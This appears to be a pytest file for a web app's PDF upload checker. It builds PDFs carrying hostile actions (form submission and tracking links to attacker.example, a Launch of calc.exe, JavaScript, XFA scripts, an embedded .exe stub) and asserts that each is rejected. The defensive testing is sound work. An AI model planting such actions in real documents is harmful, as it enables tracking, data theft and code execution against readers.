"""PDF evidence may link within itself, never outside: every action that reaches outside the document, runs code or
carries a file is refused wherever a viewer would find it. The PDFs are built here with pypdf, as real writers do."""

import html
import io

import pytest
from pypdf import PdfWriter
from pypdf.generic import (
    ArrayObject,
    DecodedStreamObject,
    DictionaryObject,
    FloatObject,
    NameObject,
    NumberObject,
    TextStringObject,
)
from sqlalchemy import select

from isok.extensions import db
from isok.translation import force_locale
from portfolio import filecheck
from portfolio.models import EvidenceFile


def _pdf(o) -> object:
    """Plain Python data as PDF objects: "/Name" strings are names, other strings text, lists arrays."""
    if isinstance(o, dict):
        return DictionaryObject({NameObject(k): _pdf(v) for k, v in o.items()})
    if isinstance(o, list):
        return ArrayObject(_pdf(v) for v in o)
    if isinstance(o, str):
        return NameObject(o) if o.startswith("/") else TextStringObject(o)
    if isinstance(o, float):
        return FloatObject(o)
    if isinstance(o, int):
        return NumberObject(o)
    return o


def _stream(data: bytes, **entries) -> DecodedStreamObject:
    stream = DecodedStreamObject()
    stream.set_data(data)
    for key, value in entries.items():
        stream[NameObject(f"/{key}")] = _pdf(value)
    return stream


RECT = [20, 20, 120, 60]


def _document(place: str | None = None, action: dict | None = None) -> PdfWriter:
    """Two blank pages, with `action` put at `place`."""
    writer = PdfWriter()
    writer.add_blank_page(200, 200)
    writer.add_blank_page(200, 200)
    if place is None:
        return writer
    first = writer.pages[0]
    target = writer._add_object(_pdf(action))
    if place == "open action":
        writer._root_object[NameObject("/OpenAction")] = target
    elif place == "document additional action":
        writer._root_object[NameObject("/AA")] = DictionaryObject({NameObject("/WC"): target})
    elif place == "page additional action":
        first[NameObject("/AA")] = DictionaryObject({NameObject("/O"): target})
    elif place in ("link annotation", "annotation additional action"):
        key = "/A" if place == "link annotation" else "/AA"
        annotation = _pdf({"/Type": "/Annot", "/Subtype": "/Link", "/Rect": RECT, "/Border": [0, 0, 0]})
        annotation[NameObject(key)] = target if key == "/A" else DictionaryObject({NameObject("/E"): target})
        writer.add_annotation(0, annotation)
    elif place == "form field":
        field = _pdf({"/FT": "/Tx", "/T": "name", "/Type": "/Annot", "/Subtype": "/Widget", "/Rect": RECT})
        field[NameObject("/AA")] = DictionaryObject({NameObject("/K"): target})
        field[NameObject("/P")] = first.indirect_reference
        field_ref = writer._add_object(field)
        first[NameObject("/Annots")] = ArrayObject([field_ref])
        writer._root_object[NameObject("/AcroForm")] = DictionaryObject(
            {NameObject("/Fields"): ArrayObject([field_ref])}
        )
    elif place == "outline item":
        item = writer.add_outline_item(title="Chapter", page_number=1).get_object()
        item.pop("/Dest", None)
        item[NameObject("/A")] = target  # instead of the internal go-to pypdf wrote
    elif place == "name tree":  # a page template, whose opening runs the action
        template = _pdf({"/Type": "/Template", "/MediaBox": [0, 0, 200, 200]})
        template[NameObject("/AA")] = DictionaryObject({NameObject("/O"): target})
        writer._root_object[NameObject("/Names")] = DictionaryObject(
            {
                NameObject("/Templates"): DictionaryObject(
                    {NameObject("/Names"): ArrayObject([TextStringObject("cover"), writer._add_object(template)])}
                )
            }
        )
    elif place == "document scripts":
        writer._root_object[NameObject("/Names")] = DictionaryObject(
            {
                NameObject("/JavaScript"): DictionaryObject(
                    {NameObject("/Names"): ArrayObject([TextStringObject("on-open"), target])}
                )
            }
        )
    elif place == "after an internal link":
        internal = _pdf({"/S": "/GoTo", "/D": [first.indirect_reference, "/Fit"]})
        internal[NameObject("/Next")] = target
        writer._root_object[NameObject("/OpenAction")] = writer._add_object(internal)
    else:
        raise ValueError(place)
    return writer


def _bytes(writer: PdfWriter) -> bytes:
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


OUTWARD_ACTIONS = {
    "URI": {"/S": "/URI", "/URI": "https://attacker.example/track"},
    "SubmitForm": {"/S": "/SubmitForm", "/F": {"/FS": "/URL", "/F": "https://attacker.example/collect"}},
    "ImportData": {"/S": "/ImportData", "/F": "answers.fdf"},
    "GoToR (a network share)": {"/S": "/GoToR", "/F": "\\\\fileserver\\share\\cv.pdf", "/D": [0, "/Fit"]},
    "GoToE": {"/S": "/GoToE", "/T": {"/R": "/C", "/N": "inner.pdf"}, "/D": [0, "/Fit"]},
    "Thread in another file": {"/S": "/Thread", "/F": "other.pdf", "/D": 0},
    "Rendition of a web video": {
        "/S": "/Rendition",
        "/OP": 0,
        "/R": {"/S": "/MR", "/C": {"/S": "/MCD", "/D": {"/FS": "/URL", "/F": "https://attacker.example/v.mp4"}}},
    },
}
ACTIVE_ACTIONS = {
    "JavaScript": {"/S": "/JavaScript", "/JS": "app.alert(1)"},
    "Launch": {"/S": "/Launch", "/F": "calc.exe"},
    "RichMediaExecute": {"/S": "/RichMediaExecute", "/CMD": {"/C": "play"}},
}
PLACES = [
    "open action",
    "document additional action",
    "page additional action",
    "link annotation",
    "annotation additional action",
    "form field",
    "outline item",
    "name tree",
    "after an internal link",
]


def _refusal(data: bytes) -> str:
    with pytest.raises(filecheck.Rejected) as refused:
        filecheck.check_file("evidence.pdf", io.BytesIO(data))
    return str(refused.value)


@pytest.mark.parametrize("place", PLACES)
@pytest.mark.parametrize("kind", sorted(OUTWARD_ACTIONS))
def test_actions_that_reach_outside_are_refused_wherever_they_are(app, kind, place):
    with app.test_request_context():
        assert _refusal(_bytes(_document(place, OUTWARD_ACTIONS[kind]))) == str(filecheck.OUTWARD_CONTENT)


@pytest.mark.parametrize("place", [*PLACES, "document scripts"])
@pytest.mark.parametrize("kind", sorted(ACTIVE_ACTIONS))
def test_scripts_and_launches_are_refused_wherever_they_are(app, kind, place):
    with app.test_request_context():
        assert _refusal(_bytes(_document(place, ACTIVE_ACTIONS[kind]))) in (
            str(filecheck.ACTIVE_CONTENT),
            str(filecheck.OUTWARD_CONTENT),
        )


def _with_annotation(annotation: dict) -> bytes:
    writer = _document()
    writer.add_annotation(0, _pdf({"/Type": "/Annot", "/Rect": RECT, **annotation}))
    return _bytes(writer)


def _attachment() -> bytes:
    writer = _document()
    writer.add_attachment("payload.exe", b"MZ\x90\x00")
    return _bytes(writer)


def _xfa_form() -> bytes:
    writer = _document()
    xfa = _stream(
        b'<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><template><script>app.alert(1)</script></template></xdp:xdp>'
    )
    writer._root_object[NameObject("/AcroForm")] = DictionaryObject(
        {NameObject("/Fields"): ArrayObject(), NameObject("/XFA"): writer._add_object(xfa)}
    )
    return _bytes(writer)


def _external_sound(writer: PdfWriter) -> dict:
    return writer._add_object(_stream(b"", Type="/Sound", R=8000, F="https://attacker.example/a.wav"))


def _sound_action(external: bool) -> bytes:
    writer = _document()
    sound = (
        _external_sound(writer)
        if external
        else writer._add_object(_stream(bytes(800), Type="/Sound", R=8000, C=1, B=8, E="/Raw"))
    )
    action = DictionaryObject({NameObject("/S"): NameObject("/Sound"), NameObject("/Sound"): sound})
    writer._root_object[NameObject("/OpenAction")] = writer._add_object(action)
    return _bytes(writer)


OTHER_ACTIVE = {
    "embedded file": (_attachment, filecheck.ACTIVE_CONTENT),
    "file attachment annotation": (
        lambda: _with_annotation(
            {
                "/Subtype": "/FileAttachment",
                "/FS": {"/Type": "/Filespec", "/UF": "invoice.pdf.exe", "/EF": {"/F": _stream(b"MZ")}},
            }
        ),
        filecheck.ACTIVE_CONTENT,
    ),
    "XFA form with a script": (_xfa_form, filecheck.ACTIVE_CONTENT),
    "RichMedia annotation": (
        lambda: _with_annotation({"/Subtype": "/RichMedia", "/RichMediaContent": {"/Assets": {"/Names": []}}}),
        filecheck.ACTIVE_CONTENT,
    ),
    "movie annotation playing an outside file": (
        lambda: _with_annotation({"/Subtype": "/Movie", "/Movie": {"/F": "https://attacker.example/clip.mov"}}),
        filecheck.OUTWARD_CONTENT,
    ),
    "sound action fetching an outside file": (lambda: _sound_action(external=True), filecheck.OUTWARD_CONTENT),
}


@pytest.mark.parametrize("kind", sorted(OTHER_ACTIVE))
def test_attachments_xfa_rich_media_and_outside_media_are_refused(app, kind):
    make, message = OTHER_ACTIVE[kind]
    with app.test_request_context():
        assert _refusal(make()) == str(message)


def _harmless() -> bytes:
    """What ordinary documents have: a table of contents, links between pages, a named destination, page-turning
    and a form field, a sound embedded in the file."""
    writer = _document()
    first, second = (page.indirect_reference for page in writer.pages)
    writer._root_object[NameObject("/Names")] = DictionaryObject(
        {
            NameObject("/Dests"): DictionaryObject(
                {NameObject("/Names"): ArrayObject([TextStringObject("here"), _pdf({"/D": [second, "/Fit"]})])}
            )
        }
    )
    writer.add_outline_item(title="Work history", page_number=1)
    writer.add_annotation(0, _pdf({"/Type": "/Annot", "/Subtype": "/Link", "/Rect": RECT, "/Dest": [second, "/Fit"]}))
    writer.add_annotation(
        0,
        _pdf(
            {"/Type": "/Annot", "/Subtype": "/Link", "/Rect": [20, 80, 120, 100], "/A": {"/S": "/GoTo", "/D": "here"}}
        ),
    )
    writer.add_annotation(
        1, _pdf({"/Type": "/Annot", "/Subtype": "/Link", "/Rect": RECT, "/A": {"/S": "/Named", "/N": "/FirstPage"}})
    )
    writer._root_object[NameObject("/OpenAction")] = _pdf([first, "/Fit"])
    return _bytes(writer)


@pytest.mark.parametrize("make", [_harmless, lambda: _sound_action(external=False)], ids=["links", "embedded sound"])
def test_a_pdf_that_links_only_within_itself_is_accepted(app, make):
    data = make()
    with app.test_request_context():
        result = filecheck.check_file("cv.pdf", io.BytesIO(data))
    assert result.media_type == "application/pdf" and result.stream.read() == data


def test_the_client_is_told_why_in_their_language_and_nothing_is_stored(app, client, login, make_case, make_entry):
    case, client_user, counsellor = make_case()
    entry = make_entry(counsellor, case)
    login(client_user)
    response = client.post(
        f"/portfolio/entries/{entry.id}/files",
        data={"files": [(io.BytesIO(_bytes(_document("link annotation", OUTWARD_ACTIONS["URI"]))), "cv.pdf")]},
        content_type="multipart/form-data",
    )
    assert response.status_code == 400
    with app.test_request_context(), force_locale("ar"):
        reason = str(filecheck.OUTWARD_CONTENT)
    assert reason != filecheck.OUTWARD_CONTENT._args[0]  # translated
    page = html.unescape(response.get_data(as_text=True))
    assert "cv.pdf" in page and reason in page
    assert db.session.scalar(select(EvidenceFile)) is None
